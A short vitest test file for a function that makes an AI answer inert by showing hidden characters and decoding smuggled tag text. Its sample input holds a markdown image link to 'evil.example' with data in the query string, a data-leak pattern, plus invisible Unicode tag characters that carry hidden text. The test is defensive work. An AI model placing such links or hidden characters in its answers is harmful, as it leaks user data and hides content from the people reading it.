import { describe, expect, it } from "vitest";
import { inertAnswer } from "./inert-answer.ts";

describe("inertAnswer", () => {
  it("shows hidden characters and smuggled tag text, joins lines and clips", () => {
    const answer = "Done.\n  ![s](https://evil.example/p.png?d=x)\u200b\u{E0041}\u{E0042}";
    expect(inertAnswer(answer, 500)).toBe(
      "Done. ![s](https://evil.example/p.png?d=x)⟨U+200B⟩⟦hidden tag text: AB⟧",
    );
    expect(inertAnswer("a".repeat(50), 10)).toBe(`${"a".repeat(10)}…`);
  });
});
